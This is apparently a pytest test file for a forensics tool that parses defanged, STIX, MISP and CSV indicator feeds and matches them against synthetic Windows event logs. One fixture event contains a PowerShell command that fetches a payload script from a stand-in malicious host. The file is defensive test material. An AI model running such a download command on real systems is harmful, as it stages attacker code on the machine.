"""IOC documents as agencies send them (defanged text, STIX 2.1, MISP, CSV) produce hits on events."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from forensics.hunt.ioc_match import match_iocs
from forensics.hunt.iocs import classify, ioc_table, load_ioc_paths, refang

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/casekit.py
from casekit import at, build_case

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SHA = "5f1e1d7a0c8e2b7d4c3b2a1908f7e6d5c4b3a2918f7e6d5c4b3a2918f7e6d5c4"

CERTIN = """\
CERT-In Vulnerability Note / Advisory CIAD-2026-0042
TLP:AMBER
# Indicators of compromise observed in the campaign

IP addresses:
203.0.113[.]45     # C2
198.51.100(.)7

Domains:
update-check[.]evil-cdn[.]example

URLs:
hxxp[:]//files.evil-cdn[.]example/payload/stage2.ps1

SHA-256:
5F1E1D7A0C8E2B7D 4C3B2A1908F7E6D5 C4B3A2918F7E6D5C 4B3A2918F7E6D5C4

File names:
invoice_scan.exe
"""


def _events() -> list[dict[str, Any]]:
    return [
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=3,
            category="network_connection",
            ts=at(0),
            src_ip="10.0.0.11",
            dst_ip="203.0.113.45",
            DestinationIp="203.0.113.45",
        ),
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=22,
            category="dns_query",
            ts=at(1),
            QueryName="a.update-check.evil-cdn.example",
        ),
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=1,
            category="process_creation",
            ts=at(2),
            process_image="C:\\Users\\alice\\Downloads\\Invoice_Scan.exe",
            hash_sha256=SHA,
            process_cmdline="powershell -c iwr http://files.evil-cdn.example/payload/stage2.ps1 -o s.ps1",
        ),
        dict(
            host="DC01",
            channel="Security",
            event_id=4625,
            ts=at(3),
            src_ip="198.51.100.7",
            IpAddress="198.51.100.7",
        ),
        dict(
            host="WKS02",
            channel=SYSMON,
            event_id=3,
            category="network_connection",
            ts=at(4),
            src_ip="10.0.0.12",
            dst_ip="192.0.2.200",
        ),
    ]


def test_refang_and_classify() -> None:
    assert refang("203.0.113[.]45") == "203.0.113.45"
    assert classify("hxxps[:]//Evil[.]Example/a") == ("url", "https://evil.example/a")
    assert classify("D41D8CD9 8F00B204 E9800998 ECF8427E") == ("md5", "d41d8cd98f00b204e9800998ecf8427e")
    assert classify("evil(.)example") == ("domain", "evil.example")
    assert classify("invoice.exe") == ("filename", "invoice.exe")
    assert classify("::ffff:203.0.113.9") == ("ipv4", "203.0.113.9")
    assert classify("not an indicator") is None


def _hits(tmp_path: Path, docs: list[Path]) -> tuple[Any, list[Any]]:
    loaded = load_ioc_paths(docs)
    assert all(o.status == "loaded" for o in loaded.outcomes), loaded.outcomes
    case = build_case(tmp_path / "case", _events())
    table = ioc_table(loaded.iocs)
    return table, match_iocs(case, table)


def test_defanged_certin_text_list(tmp_path: Path) -> None:
    doc = tmp_path / "cert-in.txt"
    doc.write_text(CERTIN)
    table, findings = _hits(tmp_path, [doc])
    assert sorted(zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True)) == [
        ("domain", "update-check.evil-cdn.example"),
        ("filename", "invoice_scan.exe"),
        ("ipv4", "198.51.100.7"),
        ("ipv4", "203.0.113.45"),
        ("sha256", SHA),
        ("url", "http://files.evil-cdn.example/payload/stage2.ps1"),
    ]
    assert set(table["tlp"].to_pylist()) == {"amber"}
    hit = {(f.rule_id, f.host) for f in findings}
    assert hit == {
        ("ioc:ipv4:203.0.113.45", "WKS01"),
        ("ioc:ipv4:198.51.100.7", "DC01"),
        ("ioc:domain:update-check.evil-cdn.example", "WKS01"),  # subdomain query and the URL's host
        ("ioc:url:http://files.evil-cdn.example/payload/stage2.ps1", "WKS01"),
        ("ioc:sha256:" + SHA, "WKS01"),
        ("ioc:filename:invoice_scan.exe", "WKS01"),
    }
    assert {f.tlp for f in findings} == {"amber"}
    assert all(f.records for f in findings)


def test_stix_bundle(tmp_path: Path) -> None:
    green = "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"
    red = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"
    bundle = {
        "type": "bundle",
        "id": "bundle--6f1e3c5a-1d2b-4c3d-8e9f-0a1b2c3d4e5f",
        "objects": [
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1", "pattern_type": "stix",
             "pattern": "[ipv4-addr:value = '203.0.113.45'] OR [domain-name:value = 'evil-cdn.example']",
             "valid_from": "2026-01-01T00:00:00Z", "confidence": 85, "object_marking_refs": [green]},
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a2", "pattern_type": "stix",
             "pattern": f"[file:hashes.'SHA-256' = '{SHA}']", "valid_from": "2026-01-02T00:00:00Z",
             "object_marking_refs": [red]},
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a3", "pattern_type": "sigma",
             "pattern": "title: x", "valid_from": "2026-01-02T00:00:00Z"},
        ],
    }  # fmt: skip
    doc = tmp_path / "bundle.json"
    doc.write_text(json.dumps(bundle))
    table, findings = _hits(tmp_path, [doc])
    rows = {(r["type"], r["value"]): r for r in table.to_pylist()}
    assert rows[("ipv4", "203.0.113.45")]["confidence"] == 85
    assert rows[("ipv4", "203.0.113.45")]["first_seen"].year == 2026
    tlp = {f.rule_id: f.tlp for f in findings}
    assert tlp["ioc:ipv4:203.0.113.45"] == "green"
    assert tlp["ioc:domain:evil-cdn.example"] == "green"
    assert tlp["ioc:sha256:" + SHA] == "red"
    outcome = load_ioc_paths([doc]).outcomes[0]
    assert "sigma not supported" in outcome.reason  # the sigma-pattern indicator is counted, not lost


def test_misp_event(tmp_path: Path) -> None:
    event = {
        "Event": {
            "info": "Ransomware intrusion", "Tag": [{"name": "tlp:amber"}],
            "Attribute": [
                {"type": "ip-dst", "value": "203.0.113.45", "to_ids": True, "category": "Network activity"},
                {"type": "ip-src", "value": "192.0.2.200", "to_ids": False},
                {"type": "hostname", "value": "update-check.evil-cdn.example", "to_ids": True,
                 "Tag": [{"name": "tlp:red"}]},
            ],
            "Object": [{"name": "file", "Attribute": [
                {"type": "filename|sha256", "value": f"invoice_scan.exe|{SHA}", "to_ids": True,
                 "first_seen": "2026-01-03T10:00:00+05:30"}]}],
        }
    }  # fmt: skip
    doc = tmp_path / "misp.json"
    doc.write_text(json.dumps(event))
    table, findings = _hits(tmp_path, [doc])
    assert ("ipv4", "192.0.2.200") not in set(
        zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True)
    )
    tlp = {f.rule_id: f.tlp for f in findings}
    assert tlp["ioc:ipv4:203.0.113.45"] == "amber"
    assert tlp["ioc:domain:update-check.evil-cdn.example"] == "red"  # the attribute's own tag wins
    assert "ioc:sha256:" + SHA in tlp and "ioc:filename:invoice_scan.exe" in tlp
    assert not any(f.host == "WKS02" for f in findings)  # to_ids false: not used
    assert "to_ids false" in load_ioc_paths([doc]).outcomes[0].reason


def test_csv_and_bad_documents_reported(tmp_path: Path) -> None:
    csv_doc = tmp_path / "iocs.csv"
    csv_doc.write_text("indicator,type,tlp,confidence\n203.0.113[.]45,ip,TLP:GREEN,70\nnot-a-thing,url,,\n")
    bad = tmp_path / "broken.json"
    bad.write_text("{not json")
    loaded = load_ioc_paths([csv_doc, bad, tmp_path / "missing.txt"])
    status = {Path(o.path).name: o.status for o in loaded.outcomes}
    assert status == {"iocs.csv": "loaded", "broken.json": "failed", "missing.txt": "failed"}
    assert [(i.type, i.value, i.tlp, i.confidence) for i in loaded.iocs] == [
        ("ipv4", "203.0.113.45", "green", 70)
    ]


def test_long_lists_read_column_wise_like_line_by_line(tmp_path: Path, monkeypatch: Any) -> None:
    from forensics.hunt import iocs as iocs_mod

    lines = ["TLP:GREEN", "# bulk feed"]
    lines += [f"198.51.{i // 250}[.]{i % 250 + 1}" for i in range(1500)]
    lines += [f"host{i}.evil-cdn[.]example" for i in range(600)]
    lines += ["SHA256:", "5F1E1D7A0C8E2B7D 4C3B2A1908F7E6D5 C4B3A2918F7E6D5C 4B3A2918F7E6D5C4"]
    lines += ["File names:", "update.com", "invoice_scan.exe", "hxxp://bad[.]example/x", "not an indicator"]
    doc = tmp_path / "feed.txt"
    doc.write_text("\n".join(lines) + "\n")
    bulk = load_ioc_paths([doc])
    assert bulk.frames, "the column-wise path was not taken"
    monkeypatch.setattr(iocs_mod, "BULK_LINES", 10**9)
    slow = load_ioc_paths([doc])
    assert not slow.frames
    assert ioc_table(bulk.iocs, bulk.frames).equals(ioc_table(slow.iocs, slow.frames))
    assert bulk.outcomes == slow.outcomes
    table = ioc_table(bulk.iocs, bulk.frames)
    kinds = dict(zip(table["value"].to_pylist(), table["type"].to_pylist(), strict=True))
    assert kinds["update.com"] == "filename"  # under "File names:", not a domain
    assert kinds["http://bad.example/x"] == "url"
    assert set(table["tlp"].to_pylist()) == {"green"}


def test_ipv4_ranges_match_with_a_range_join(tmp_path: Path) -> None:
    doc = tmp_path / "ranges.txt"
    doc.write_text("203.0.113[.]0/24\n198.51.100.7/32\n")
    table, findings = _hits(tmp_path, [doc])
    assert sorted(table["type"].to_pylist()) == ["cidr", "ipv4"]
    got = {(f.rule_id, f.host, f.level) for f in findings}
    assert ("ioc:cidr:203.0.113.0/24", "WKS01", "medium") in got
    assert ("ioc:ipv4:198.51.100.7", "DC01", "high") in got
